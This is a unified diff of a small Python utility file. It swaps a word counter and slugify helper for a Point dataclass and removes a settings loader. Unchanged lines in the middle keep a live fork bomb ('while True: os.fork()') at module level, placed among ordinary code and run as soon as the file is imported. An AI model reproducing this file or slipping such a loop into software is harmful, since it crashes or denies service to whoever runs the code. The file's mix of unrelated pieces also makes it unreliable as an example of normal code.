@@ -1,19 +1,13 @@
-#!/usr/bin/env python3
-class Counter:
-    def __init__(self):
-        self.counts = {}
+from dataclasses import dataclass
 
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+@dataclass
+class Point:
+    x: float
+    y: float
 
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
 while True:
     os.fork()
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
